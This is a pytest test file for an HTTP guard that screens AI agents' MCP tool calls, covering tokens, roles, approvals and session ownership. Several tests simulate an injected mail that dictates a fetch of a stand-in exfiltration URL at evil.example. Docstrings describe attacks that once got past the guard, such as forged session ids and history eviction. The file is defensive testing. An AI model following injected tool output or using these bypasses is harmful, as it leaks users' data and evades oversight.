"""`groundstate mcp serve --http`: the guard over streamable HTTP, behind operator accounts' tokens — the SDK's HTTP
client with an operator's token lists and calls through it; without a token, a 401; with a viewer's, a 403."""

from __future__ import annotations

import asyncio
import itertools
import json
import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
import httpx2
import pytest
from mcp.client.session import ClientSession
from mcp.client.streamable_http import streamable_http_client

from groundstate.config import default_db_url
from groundstate.guard import ApprovalRefused, Ledger
from groundstate.store import Operators

from .test_mcp_guard import TIME, refusal


def approve_when_held(home: Path, token: str, caller: str, refused: list[str]) -> None:
    """In the background: approve the first held call with `groundstate approvals`, first as the account that made
    it (``caller``'s token: refused, separation of duties — what it said goes to ``refused``), then as the token's
    operator."""
    env = {**os.environ, "GROUNDSTATE_HOME": str(home / "home"), "GROUNDSTATE_TOKEN": token}
    for _ in range(300):
        listed = subprocess.run([sys.executable, "-m", "groundstate", "approvals", "list"], cwd=home, env=env,
                                capture_output=True, text=True, timeout=60)  # fmt: skip
        if listed.stdout.strip():
            held = json.loads(listed.stdout.splitlines()[0])
            approve = ["approvals", "approve", str(held["id"]), "--digest", held["digest"]]
            own = subprocess.run([sys.executable, "-m", "groundstate", *approve], cwd=home, capture_output=True,
                                 env={**env, "GROUNDSTATE_TOKEN": caller}, text=True, timeout=60)  # fmt: skip
            refused.append(f"{own.returncode} {own.stderr.strip().splitlines()[-1]}")
            subprocess.run([sys.executable, "-m", "groundstate", *approve], cwd=home, env=env, check=True,
                           capture_output=True, timeout=60)  # fmt: skip
            return
        time.sleep(0.2)


@contextmanager
def http_guard(folder: Path) -> Iterator[tuple[str, str]]:
    """``groundstate mcp serve --http`` on a free port, configured by ``folder``'s groundstate.toml: its URL and
    the serving line it printed (once its socket listens: a request at once is queued, never refused); stopped
    after."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    server = subprocess.Popen([sys.executable, "-m", "groundstate", "mcp", "serve", "--http", f"127.0.0.1:{port}"],
                              cwd=folder, env={"GROUNDSTATE_HOME": str(folder / "home"),
                                               "GROUNDSTATE_CONFIG": str(folder / "groundstate.toml")},
                              stderr=subprocess.PIPE, text=True)  # fmt: skip
    try:
        assert server.stderr is not None
        yield f"http://127.0.0.1:{port}/mcp", server.stderr.readline()
    finally:
        server.terminate()
        server.wait(timeout=10)


def raw_session(url: str, token: str) -> dict[str, str]:
    """A session opened with plain HTTP requests: the headers each of its requests carries."""
    headers = {"Accept": "application/json, text/event-stream", "Authorization": f"Bearer {token}",
               "mcp-protocol-version": "2025-06-18"}  # fmt: skip
    hello = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "raw", "version": "0"}}}
    opened = httpx.post(url, json=hello, headers=headers, timeout=30)
    headers["mcp-session-id"] = opened.headers["mcp-session-id"]
    httpx.post(url, json={"jsonrpc": "2.0", "method": "notifications/initialized"}, headers=headers, timeout=30)
    return headers


def inbox_config(folder: Path) -> None:
    """``folder``'s groundstate.toml: one upstream, the inbox (``inbox_server.py``: a mail dictates a send and a
    visit, recorded beside ``folder/sent.txt``)."""
    inbox = Path(__file__).with_name("inbox_server.py")
    (folder / "groundstate.toml").write_text(
        f'[mcp.servers.mail]\ncommand = ["{sys.executable}", "{inbox}"]\n'
        f'env = {{ INBOX_SENT = "{folder / "sent.txt"}" }}\n')


def another_operator(folder: Path, token: str, name: str) -> str:
    """The token of a new operator account ``name``, added by the admin whose token is ``token``."""
    operators = Operators(default_db_url(folder / "home"))
    admin = operators.authenticate(token)
    assert admin is not None
    return operators.add(name, "operator", admin)[1]


def sessions_are_their_accounts(url: str, token: str, other: str) -> None:
    """An MCP session belongs to the account that opened it: another account's request in it is a 403."""
    hello = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "raw", "version": "0"}}}
    accept = {"Accept": "application/json, text/event-stream"}
    opened = httpx.post(url, json=hello, headers={**accept, "Authorization": f"Bearer {token}"}, timeout=10)
    session = opened.headers["mcp-session-id"]  # the admin's session
    listing = {"jsonrpc": "2.0", "id": 2, "method": "tools/list"}
    borrowed = httpx.post(url, json=listing, timeout=10, headers={**accept, "Authorization": f"Bearer {other}",
                                                                  "mcp-session-id": session})  # fmt: skip
    assert borrowed.status_code == 403 and "opened by another account" in borrowed.json()["error"]
    own = httpx.post(url, json=listing, timeout=10, headers={**accept, "Authorization": f"Bearer {token}",
                                                             "mcp-session-id": session,
                                                             "mcp-protocol-version": "2025-06-18"})  # fmt: skip
    assert own.status_code == 200 and "time__get_current_time" in own.text


def refusals_have_codes(url: str, refused: httpx.Response, viewer: str, token: str) -> None:
    """A viewer's 403, and a path the guard does not serve (the SDK's own 404 was plain text), each with its code;
    only a 401 says which credential to send."""
    seen = httpx.post(url, json={}, headers={"Authorization": f"Bearer {viewer}"}, timeout=5)
    assert (seen.status_code, seen.json()["code"]) == (403, "forbidden") and \
        "'vic' is a viewer, who may not act" in seen.json()["error"]  # fmt: skip
    assert "www-authenticate" in refused.headers and "www-authenticate" not in seen.headers
    elsewhere = httpx.get(url.replace("/mcp", "/elsewhere"), headers={"Authorization": f"Bearer {token}"}, timeout=5)
    assert (elsewhere.status_code, elsewhere.json()["code"]) == (404, "not_found")


def test_the_guard_serves_streamable_http_behind_the_token(tmp_path: Path) -> None:
    (tmp_path / "mine.mg").write_text(
        'mcp_denied(C, "no questions about Pyongyang") :- mcp_argument(C, "timezone", "Asia/Pyongyang").\n'
        'mcp_needs_approval(C, "conversions need a look") :- mcp_call(C, "time", "convert_time", _, _).\n'
    )
    (tmp_path / "groundstate.toml").write_text(TIME + '[mcp]\npolicy = ["mine.mg"]\napproval_timeout_sec = 60\n'
                                               'hold_wait_sec = 60\n')  # the client waits for the approval
    with http_guard(tmp_path) as (url, started):  # printed once the upstreams are connected
        assert started.strip().endswith(f"on {url}"), started
        for _ in range(100):
            try:
                refused = httpx.post(url, json={}, timeout=2)
                break
            except httpx.TransportError:
                time.sleep(0.1)
        assert refused.status_code == 401 and refused.json()["code"] == "unauthenticated"  # errors.HTTP_STATUSES
        token = (tmp_path / "home" / "console.token").read_text().strip()  # the first admin's
        operators = Operators(default_db_url(tmp_path / "home"))
        admin = operators.authenticate(token)
        assert admin is not None
        _, viewer = operators.add("vic", "viewer", admin)
        refusals_have_codes(url, refused, viewer, token)

        _, olga = operators.add("olga", "operator", admin)
        self_approval: list[str] = []
        approver = threading.Thread(target=approve_when_held, args=(tmp_path, olga, token, self_approval), daemon=True)

        async def use() -> tuple[list[str], str, Any, str]:
            headers = {"Authorization": f"Bearer {token}"}
            async with httpx2.AsyncClient(headers=headers, timeout=httpx2.Timeout(30, read=300)) as http, \
                    streamable_http_client(url, http_client=http) as streams, \
                    ClientSession(streams[0], streams[1]) as client:  # fmt: skip
                await client.initialize()
                tools = [tool.name for tool in (await client.list_tools()).tools]
                result = await client.call_tool("time__get_current_time", {"timezone": "UTC"})
                denied = await refusal(client, "time__get_current_time", {"timezone": "Asia/Pyongyang"})
                approver.start()  # an operator approves the held conversion with the CLI, as olga
                conversion = {"source_timezone": "UTC", "time": "12:00", "target_timezone": "Europe/Paris"}
                converted = await client.call_tool("time__convert_time", conversion)
                return tools, result.content[0].text, denied, converted.content[0].text  # type: ignore[union-attr]

        tools, text, denied, converted = asyncio.run(asyncio.wait_for(use(), 90))
        assert tools == ["time__get_current_time", "time__convert_time"] and '"timezone": "UTC"' in text
        assert "denied by policy: no questions about Pyongyang" in str(denied) and 'mcp_argument("' in denied.data[
            "why"]  # the derivation travels with the refusal  # fmt: skip
        assert '"Europe/Paris"' in converted  # held, approved by olga, forwarded once
        assert self_approval == ["4 error: call 3: operator admin asked for this themselves: another account decides "
                                 "it (or name admin in [access] self_approval)"]  # the caller's own token: refused
        sessions_are_their_accounts(url, token, olga)
        listed = subprocess.run([sys.executable, "-m", "groundstate", "approvals", "list", "--all"], cwd=tmp_path,
                                env={"GROUNDSTATE_HOME": str(tmp_path / "home")}, capture_output=True, text=True,
                                timeout=60)  # fmt: skip
        assert '"client": "mcp over http as operator:admin"' in listed.stdout and '"status": "permit"' in listed.stdout
        assert '"status": "approved"' in listed.stdout and '"operator": "olga"' in listed.stdout


def test_a_held_call_whose_http_client_hung_up_is_withdrawn(tmp_path: Path) -> None:
    """The client's connection closes while its call waits for the operator (here: its read timeout of 2 s, the
    guard set to wait 60): the call is withdrawn, and an approval is refused instead of running it for nobody."""
    (tmp_path / "hold.mg").write_text('mcp_needs_approval(C, "an operator decides") :- '
                                      'mcp_call(C, "time", "convert_time", _, _).\n')  # fmt: skip
    (tmp_path / "groundstate.toml").write_text(TIME + '[mcp]\npolicy = ["hold.mg"]\napproval_timeout_sec = 60\n'
                                               'hold_wait_sec = 60\n')  # fmt: skip
    with http_guard(tmp_path) as (url, _):  # a request sent as soon as it says it serves is queued, never refused
        headers = raw_session(url, (tmp_path / "home" / "console.token").read_text().strip())
        conversion = {"source_timezone": "UTC", "time": "12:00", "target_timezone": "Europe/Paris"}
        call = {"jsonrpc": "2.0", "id": 2, "method": "tools/call",
                "params": {"name": "time__convert_time", "arguments": conversion}}  # fmt: skip
        with pytest.raises(httpx.ReadTimeout):
            httpx.post(url, json=call, headers=headers, timeout=httpx.Timeout(10, read=2))
        ledger = Ledger(default_db_url(tmp_path / "home"))
        for _ in range(100):
            entries = ledger.entries()
            if entries and entries[0].status != "held":
                break
            time.sleep(0.1)
        [entry] = ledger.entries()
        assert (entry.status, entry.ended) == ("withdrawn", "its client's connection closed")
        with pytest.raises(ApprovalRefused, match="is withdrawn"):
            ledger.decide(entry.id, True, "dana")


def test_an_address_the_guard_cannot_listen_on_is_named_without_a_traceback(tmp_path: Path) -> None:
    """The guard binds its socket before it says it serves (so the line means a client may connect); an address
    that is taken is a configuration error naming it — exit 2, no traceback, its upstreams stopped."""
    (tmp_path / "groundstate.toml").write_text(TIME)
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen(1)
        port = taken.getsockname()[1]
        done = subprocess.run([sys.executable, "-m", "groundstate", "mcp", "serve", "--http", f"127.0.0.1:{port}"],
                              cwd=tmp_path, env={"GROUNDSTATE_HOME": str(tmp_path / "home"),
                                                 "GROUNDSTATE_CONFIG": str(tmp_path / "groundstate.toml")},
                              capture_output=True, text=True, timeout=120)  # fmt: skip
    assert done.returncode == 2, done.stderr
    assert f"mcp serve --http 127.0.0.1:{port}: cannot listen there: Address already in use" in done.stderr
    assert "Traceback" not in done.stderr and "upstream server(s)" not in done.stderr  # it never said it serves


RAW = str(Path(__file__).with_name("raw_upstream.py"))


@pytest.mark.alone
@pytest.mark.parametrize("megabytes", ["values", "keys", "structured result"])
def test_a_sessions_megabytes_do_not_hold_up_another_accounts_calls(tmp_path: Path, megabytes: str) -> None:
    """Accounts' sessions over HTTP share one guard. One sends a call with 3.5 MiB of argument values (or of argument
    keys, or one whose result is a two-character text beside 4 MiB of structured content — both found by an attack),
    whose words provenance reads (a second or more on a busy machine), and then a small call; another session's small
    calls meanwhile must not wait for all of that — the words are read in a worker thread, a slice at a time, before
    the one-at-a-time decision and its store transaction, under the history's own lock, and the first session's small
    call waits for that lock in a thread too, never on the event loop. Before, the words were read on the event loop
    inside the admission, and the other session's call waited until they were done. (The sessions of one account
    share their history, so its lock: the other session is another account's.)"""
    import random
    import string

    clock = TIME.replace("[mcp.servers.time]", "[mcp.servers.clock]")  # the megabytes' own upstream: one server
    raw = f'[mcp.servers.raw]\ncommand = ["{sys.executable}", "{RAW}"]\n'  # reads one request at a time
    (tmp_path / "groundstate.toml").write_text(TIME + clock + raw)
    with http_guard(tmp_path) as (url, _):
        token = (tmp_path / "home" / "console.token").read_text().strip()

        ids = itertools.count(2)  # a request's id is its own among those in flight in its session

        def call(headers: dict[str, str], arguments: dict[str, Any], tool: str = "time__get_current_time") -> float:
            started = time.perf_counter()
            answer = httpx.post(url, headers=headers, timeout=60, json={
                "jsonrpc": "2.0", "id": next(ids), "method": "tools/call",
                "params": {"name": tool, "arguments": arguments}})
            assert answer.status_code == 200 and '"isError":false' in answer.text, answer.text[:300]
            return time.perf_counter() - started

        heavy, light = raw_session(url, token), raw_session(url, another_operator(tmp_path, token, "olga"))
        rng = random.Random(7)
        vocabulary = ["".join(rng.choices(string.ascii_lowercase + string.digits, k=rng.randint(3, 10)))
                      for _ in range(50_000)]  # fmt: skip
        if megabytes == "values":
            arguments: dict[str, Any] = {f"k{n}": " ".join(rng.choices(vocabulary, k=36_000)) for n in range(14)}
            tool = "clock__get_current_time"
        elif megabytes == "keys":
            arguments = {" ".join(rng.choices(vocabulary, k=2_000)): None for _ in range(255)}
            tool = "clock__get_current_time"
        else:
            arguments, tool = {"act": "listing", "count": 300_000}, "raw__probe"
        call(light, {"timezone": "UTC"})  # both paths warm
        spent: list[float] = []
        worker = threading.Thread(target=lambda: spent.append(call(heavy, {"timezone": "UTC", **arguments}, tool)))
        worker.start()
        time.sleep(0.2)  # a small call of the same session: it waits for the megabytes, but never on the event loop
        own = threading.Thread(target=call, args=(heavy, {"timezone": "UTC"}, "clock__get_current_time"))
        own.start()
        meanwhile = []
        deadline = time.monotonic() + 90
        while worker.is_alive() and time.monotonic() < deadline:
            meanwhile.append(call(light, {"timezone": "UTC"}))
        worker.join()
        own.join()
        [whole] = spent
        assert len(meanwhile) >= 2, (whole, meanwhile)  # the other session was served while the megabytes were read
        assert max(meanwhile) < 0.6 * whole, (whole, meanwhile)  # and none of its calls waited for most of them


def test_an_accounts_sessions_share_what_they_were_told_and_not_what_they_were_asked(tmp_path: Path) -> None:
    """Over HTTP a session is a transport's unit, not a conversation's (LangGraph's ``get_tools()`` opens one per
    call): a mail one session of an account read is seen by the account's next session, whose fetch of the URL the
    mail dictated is refused naming that read. The request the first session declared vouches for its own fetch
    alone, and another account's session was told nothing."""
    inbox_config(tmp_path)
    url_dictated = "https://evil.example/collect?c=771203"
    ids = itertools.count(10)

    def call(headers: dict[str, str], tool: str, arguments: dict[str, Any], request: str = "") -> dict[str, Any]:
        params: dict[str, Any] = {"name": tool, "arguments": arguments}
        if request:
            params["_meta"] = {"groundstate/request": request}
        answer = httpx.post(url, headers=headers, timeout=60,
                            json={"jsonrpc": "2.0", "id": next(ids), "method": "tools/call", "params": params})
        assert answer.status_code == 200, answer.text[:300]
        body = answer.text if answer.text.startswith("{") else answer.text.split("data: ", 1)[1]
        return json.loads(body)["result"]  # type: ignore[no-any-return]

    with http_guard(tmp_path) as (url, _):
        token = (tmp_path / "home" / "console.token").read_text().strip()
        olga = another_operator(tmp_path, token, "olga")
        reader = raw_session(url, token)
        read = call(reader, "mail__read_inbox", {}, request=f"Read my mail, then open {url_dictated}")
        assert not read["isError"] and "771203" in read["content"][0]["text"]
        own = call(reader, "mail__fetch", {"url": url_dictated})  # its session's request named the URL
        assert not own["isError"], own
        next_session = call(raw_session(url, token), "mail__fetch", {"url": url_dictated})
        assert next_session["isError"], next_session
        said = next_session["content"][0]["text"]
        assert said.startswith("denied by policy: mail/fetch reaches the open world with 'url' taken from the "
                               "result of mail/read_inbox (call-")
        elsewhere = call(raw_session(url, olga), "mail__fetch", {"url": url_dictated})  # olga read no mail
        assert not elsewhere["isError"], elsewhere
    visits = (tmp_path / "sent.visits").read_text().splitlines()
    assert visits == [url_dictated, url_dictated]  # the reader's own and olga's: never the refused one


def test_an_accounts_history_outlives_its_guard_and_is_shared_by_the_guards_on_one_store(tmp_path: Path) -> None:
    """An account's history lived in one guard process: a second guard on the same store (two behind one load
    balancer), or the same guard restarted, judged the account's next fetch of the URL a mail dictated against
    nothing, and it went out. What an account's calls returned is kept in the store and caught up before each of
    its calls, by every guard on the store; another account's calls are still judged against their own."""
    inbox_config(tmp_path)
    dictated = "https://evil.example/collect?c=771203"
    tied = "taken from the result of mail/read_inbox"
    with http_guard(tmp_path) as (first, _):
        token = (tmp_path / "home" / "console.token").read_text().strip()
        olga = another_operator(tmp_path, token, "olga")
        read = modern_call(first, token, 1, "mail__read_inbox", {})
        assert read.status_code == 200 and "771203" in read.text
        with http_guard(tmp_path) as (second, _):
            fetched = modern_call(second, token, 2, "mail__fetch", {"url": dictated})
            assert '"isError":true' in fetched.text and tied in fetched.text, fetched.text
            theirs = modern_call(second, olga, 3, "mail__fetch", {"url": dictated})  # olga read no mail
            assert theirs.status_code == 200 and '"isError":true' not in theirs.text, theirs.text
            read = modern_call(second, olga, 4, "mail__read_inbox", {})  # now she did, through the second guard
            assert read.status_code == 200 and "771203" in read.text
        fetched = modern_call(first, olga, 5, "mail__fetch", {"url": dictated})  # the first guard caught up on it
        assert '"isError":true' in fetched.text and tied in fetched.text, fetched.text
    with http_guard(tmp_path) as (restarted, _):
        fetched = modern_call(restarted, token, 6, "mail__fetch", {"url": dictated})
        assert '"isError":true' in fetched.text and tied in fetched.text, fetched.text
    assert (tmp_path / "sent.visits").read_text().splitlines() == [dictated]  # olga's alone


@pytest.mark.alone
def test_catching_up_on_another_guards_megabytes_does_not_hold_up_other_accounts(tmp_path: Path) -> None:
    """Found by an attack: a guard caught up on the megabytes another guard kept for an account on the event loop,
    and every other account's calls waited meanwhile. A first read, or new results past a few kilobytes, are read
    and indexed in a worker thread."""
    raw = f'[mcp.servers.raw]\ncommand = ["{sys.executable}", "{RAW}"]\n'
    (tmp_path / "groundstate.toml").write_text("[mcp]\nhistory_bytes = 16777216\n" + TIME + raw)
    with http_guard(tmp_path) as (first, _):
        token = (tmp_path / "home" / "console.token").read_text().strip()
        olga = another_operator(tmp_path, token, "olga")
        ids = itertools.count(1)
        modern_call(first, token, next(ids), "time__get_current_time", {"timezone": "UTC"})
        with http_guard(tmp_path) as (second, _):

            def call(url: str, who: str, tool: str, arguments: dict[str, Any]) -> float:
                started = time.perf_counter()
                answer = modern_call(url, who, next(ids), tool, arguments, timeout=120)
                assert answer.status_code == 200 and '"isError":false' in answer.text, answer.text[:300]
                return time.perf_counter() - started

            call(second, token, "time__get_current_time", {"timezone": "UTC"})  # both accounts caught up: nothing
            call(second, olga, "time__get_current_time", {"timezone": "UTC"})  # new, so the next read is the usual
            call(first, token, "raw__probe", {"act": "listing", "count": 300_000})  # 4 MiB kept by the first guard
            spent: list[float] = []
            worker = threading.Thread(target=lambda: spent.append(
                call(second, token, "time__get_current_time", {"timezone": "UTC"})))  # catches up on them
            worker.start()
            meanwhile = []
            deadline = time.monotonic() + 90
            while worker.is_alive() and time.monotonic() < deadline:
                meanwhile.append(call(second, olga, "time__get_current_time", {"timezone": "UTC"}))
            worker.join()
    [whole] = spent
    assert len(meanwhile) >= 2, (whole, meanwhile)  # olga was served while the megabytes were read
    assert max(meanwhile) < 0.6 * whole, (whole, meanwhile)  # and none of her calls waited for most of them


def test_an_idempotency_key_sent_over_http_is_its_accounts(tmp_path: Path) -> None:
    """Found by an attack: keys were the server's alone, so another account that used a key first had the call the
    key named refused ("used for another call"), and one that sent the same call got its recorded result instead of
    its own. A key sent over HTTP names a call of its account only; each account's retry gets its own result."""
    inbox_config(tmp_path)
    ids = itertools.count(1)

    def fetch(token: str, url: str) -> dict[str, Any]:  # (a JSON-RPC error is a 400 on this protocol)
        return dict(modern_call(guard_url, token, next(ids), "mail__fetch", {"url": url}, key="visit-1").json())

    with http_guard(tmp_path) as (guard_url, _):
        token = (tmp_path / "home" / "console.token").read_text().strip()
        bob = another_operator(tmp_path, token, "bob")
        first = fetch(bob, "https://example.org/bob")  # bob uses the key first
        assert first["result"]["isError"] is False, first
        own = fetch(token, "https://example.org/admin")  # the same key, another account's call: it runs
        assert own["result"]["isError"] is False, own
        again = fetch(token, "https://example.org/admin")  # sent again: the recorded result, nothing forwarded
        assert again["result"]["content"] == own["result"]["content"]
        bobs = fetch(bob, "https://example.org/admin")  # bob's key names his own call: the admin's is not his
        assert "error" in bobs and "was used for another call" in bobs["error"]["message"], bobs
    visits = (tmp_path / "sent.visits").read_text().splitlines()
    assert visits == ["https://example.org/bob", "https://example.org/admin"]


MODERN = {"Accept": "application/json, text/event-stream", "mcp-protocol-version": "2026-07-28",
          "mcp-method": "tools/call"}  # fmt: skip  (MCP's 2026 protocol: one exchange, no session)


def modern_call(url: str, token: str, request_id: int, tool: str, arguments: dict[str, Any],
                extra: dict[str, str] | None = None, timeout: float = 60,
                request: str = "", key: str = "") -> httpx.Response:  # fmt: skip
    """A ``tools/call`` in MCP's 2026 protocol, with ``extra`` headers (and the user's ``request`` declared, and an
    idempotency ``key``)."""
    meta: dict[str, Any] = {"io.modelcontextprotocol/protocolVersion": "2026-07-28",
                            "io.modelcontextprotocol/clientCapabilities": {},
                            "io.modelcontextprotocol/clientInfo": {"name": "raw", "version": "0"}}  # fmt: skip
    if request:
        meta["groundstate/request"] = request
    if key:
        meta["groundstate/idempotency_key"] = key
    return httpx.post(url, timeout=timeout, headers={**MODERN, "mcp-name": tool, "Authorization": f"Bearer {token}",
                                                     **(extra or {})},
                      json={"jsonrpc": "2.0", "id": request_id, "method": "tools/call",
                            "params": {"name": tool, "arguments": arguments, "_meta": meta}})  # fmt: skip


def test_a_session_id_this_guard_did_not_open_is_a_404_on_either_protocol(tmp_path: Path) -> None:
    """Found by an attack: MCP's 2026 path in the SDK never checks ``mcp-session-id``, and the id named the
    conversation whose declared request vouches for its calls — another account sent one call naming bob's
    conversation with a request naming the mail's URL, and bob's fetch of it went out. An id this guard did not
    open for the account, or one that ended, is a 404 (MCP's answer: open a new session), on either protocol."""
    inbox_config(tmp_path)
    dictated = "https://evil.example/collect?c=771203"
    with http_guard(tmp_path) as (url, _):
        token = (tmp_path / "home" / "console.token").read_text().strip()
        bob = another_operator(tmp_path, token, "bob")
        assert modern_call(url, bob, 1, "mail__read_inbox", {}).status_code == 200  # bob's agent reads the mail
        for forged in ("stateless:bob", "http:bob:stateless", "bob", "0" * 32):  # bob's conversation, as it was
            answer = modern_call(url, token, 2, "mail__contacts", {}, {"mcp-session-id": forged},  # named, or is
                                 request=f"open {dictated}")  # fmt: skip
            assert (answer.status_code, answer.json()["code"]) == (404, "not_found"), (forged, answer.text)
            legacy = httpx.post(url, timeout=30, json={"jsonrpc": "2.0", "id": 2, "method": "tools/list"},
                                headers={"Accept": MODERN["Accept"], "Authorization": f"Bearer {token}",
                                         "mcp-session-id": forged})  # fmt: skip
            assert legacy.status_code == 404, legacy.text
        fetched = modern_call(url, bob, 3, "mail__fetch", {"url": dictated})
        assert '"isError":true' in fetched.text and "taken from the result of mail/read_inbox" in fetched.text
        ended = raw_session(url, token)  # a session that ended is gone too
        assert httpx.delete(url, headers=ended, timeout=30).status_code < 300
        after = httpx.post(url, timeout=30, headers=ended, json={"jsonrpc": "2.0", "id": 3, "method": "tools/list"})
        assert after.status_code == 404, after.text
    assert not (tmp_path / "sent.visits").exists()


def test_a_hung_up_request_withdraws_only_its_own_held_call(tmp_path: Path) -> None:
    """Found by an attack: a departed request was known by its JSON-RPC id (and session id, none in MCP's 2026
    protocol), so one account's request 7 that hung up withdrew, at once, every account's later held request 7 —
    while its client still waited. Now the departure is the HTTP exchange's own."""
    (tmp_path / "hold.mg").write_text('mcp_needs_approval(C, "an operator decides") :- '
                                      'mcp_call(C, "time", "convert_time", _, _).\n')  # fmt: skip
    (tmp_path / "groundstate.toml").write_text(TIME + '[mcp]\npolicy = ["hold.mg"]\napproval_timeout_sec = 60\n'
                                               'hold_wait_sec = 60\n')  # fmt: skip
    conversion = {"source_timezone": "UTC", "time": "12:00", "target_timezone": "Europe/Paris"}
    with http_guard(tmp_path) as (url, _):
        token = (tmp_path / "home" / "console.token").read_text().strip()
        olga = another_operator(tmp_path, token, "olga")
        with pytest.raises(httpx.ReadTimeout):  # the admin's request 7 hangs up while held
            modern_call(url, token, 7, "time__convert_time", conversion, timeout=2)
        time.sleep(0.5)
        started = time.monotonic()
        with pytest.raises(httpx.ReadTimeout):  # olga's request 7 is held and still waiting when she gives up
            modern_call(url, olga, 7, "time__convert_time", conversion, timeout=3)
        assert time.monotonic() - started >= 2.9
    entries = Ledger(default_db_url(tmp_path / "home")).entries()
    assert [entry.status for entry in entries] == ["withdrawn"] * 2  # each by its own client's leaving


def test_another_accounts_sessions_do_not_push_an_accounts_history_out(tmp_path: Path) -> None:
    """Found by an attack: every session's conversation had a place in the one table of histories (256), so another
    account opening 300 sessions of one call each pushed out the history of an account that had read the mail — it
    came back empty, and its fetch of the URL the mail dictated went out. Conversations' requests are kept apart
    now, per account: the fetch is still refused, naming the read."""
    inbox_config(tmp_path)
    from groundstate.provenance import MAX_SESSIONS

    with http_guard(tmp_path) as (url, _):
        token = (tmp_path / "home" / "console.token").read_text().strip()
        bob = another_operator(tmp_path, token, "bob")
        assert '"isError":false' in modern_call(url, token, 1, "mail__read_inbox", {}).text
        with httpx.Client(timeout=30) as http:
            for number in range(MAX_SESSIONS + 44):  # bob's agent: a session per call, as get_tools() opens them
                hello = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
                    "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "b", "version": "0"}}}
                headers = {"Accept": MODERN["Accept"], "Authorization": f"Bearer {bob}",
                           "mcp-protocol-version": "2025-06-18"}  # fmt: skip
                headers["mcp-session-id"] = http.post(url, json=hello, headers=headers).headers["mcp-session-id"]
                listed = http.post(url, headers=headers, json={"jsonrpc": "2.0", "id": 2, "method": "tools/call",
                                                               "params": {"name": "mail__contacts", "arguments": {}}})
                assert listed.status_code == 200, (number, listed.text)
        fetched = modern_call(url, token, 2, "mail__fetch", {"url": "https://evil.example/collect?c=771203"})
        assert '"isError":true' in fetched.text and "taken from the result of mail/read_inbox" in fetched.text
    assert not (tmp_path / "sent.visits").exists()


def test_a_request_naming_two_sessions_is_refused_and_a_failed_opening_opens_none(tmp_path: Path) -> None:
    """Found by an attack: with two ``mcp-session-id`` headers the guard checked the last (mal's own session) and
    the SDK used the first (bob's) — mal's request ran in bob's session, took the answer to bob's held call, cancelled
    it and ended bob's session; on MCP's 2026 path the first could be a made-up id of megabytes, kept per call. Two
    are a 400 now. And an id the SDK hands out with a failed answer (a body that is no JSON) is no session: it was
    noted as one, and 10,000 such answers pushed live sessions out of the guard's table."""
    (tmp_path / "groundstate.toml").write_text(TIME)
    with http_guard(tmp_path) as (url, _):
        token = (tmp_path / "home" / "console.token").read_text().strip()
        bob = raw_session(url, another_operator(tmp_path, token, "bob"))
        mine = raw_session(url, token)
        both = [(name, value) for name, value in mine.items() if name != "mcp-session-id"]
        both += [("mcp-session-id", bob["mcp-session-id"]), ("mcp-session-id", mine["mcp-session-id"])]
        for method in ("POST", "DELETE"):
            sent = httpx.request(method, url, headers=both, timeout=30,
                                 json={"jsonrpc": "2.0", "id": 9, "method": "tools/list"})  # fmt: skip
            assert (sent.status_code, sent.json()["code"]) == (400, "bad_input"), sent.text
        listed = httpx.post(url, headers=bob, timeout=30, json={"jsonrpc": "2.0", "id": 3, "method": "tools/list"})
        assert listed.status_code == 200 and "time__get_current_time" in listed.text  # bob's session lives on
        failed = httpx.post(url, timeout=30, content=b"not json", headers={
            "Accept": "application/json, text/event-stream", "Authorization": f"Bearer {token}",
            "Content-Type": "application/json"})  # fmt: skip
        assert failed.status_code >= 400
        handed = failed.headers.get("mcp-session-id")
        assert handed is not None  # the SDK names a session it threw away: the guard does not take it for one
        again = httpx.post(url, timeout=30, json={"jsonrpc": "2.0", "id": 4, "method": "tools/list"},
                           headers={**mine, "mcp-session-id": handed})  # fmt: skip
        assert again.status_code == 404, again.text


def test_one_accounts_sessions_push_out_only_its_own() -> None:
    """``SessionOwners``: each account's sessions are bounded on their own, the least recently used forgotten
    first; a session is noted only from a successful answer, and a DELETE's session forgotten once it succeeded."""
    from groundstate.guard import SessionOwners

    owners = SessionOwners(max_per_account=50)

    def opened(session: bytes, account: str, status: int = 200) -> None:
        owners.answered({"status": status, "headers": [(b"mcp-session-id", session)]}, account, None)

    opened(b"bob-1", "bob")
    opened(b"thrown-away", "mal", status=400)
    assert owners.check(b"thrown-away", "mal") is not None  # a 400's id is no session
    opened(b"mal-0", "mal")
    for number in range(1, 200):
        opened(f"mal-{number}".encode(), "mal")
        assert owners.check(b"mal-0", "mal") is None  # used all along: never the one forgotten
    assert owners.check(b"mal-1", "mal") is not None and owners.check(b"mal-199", "mal") is None  # idle: gone
    assert owners.check(b"bob-1", "bob") is None  # mal's 200 sessions pushed out none of bob's
    assert str(owners.check(b"bob-1", "mal")).startswith("this MCP session was opened by another account")
    owners.answered({"status": 200, "headers": []}, "bob", b"bob-1")  # bob ended it
    assert str(owners.check(b"bob-1", "bob")).startswith("no MCP session with this id is open here")
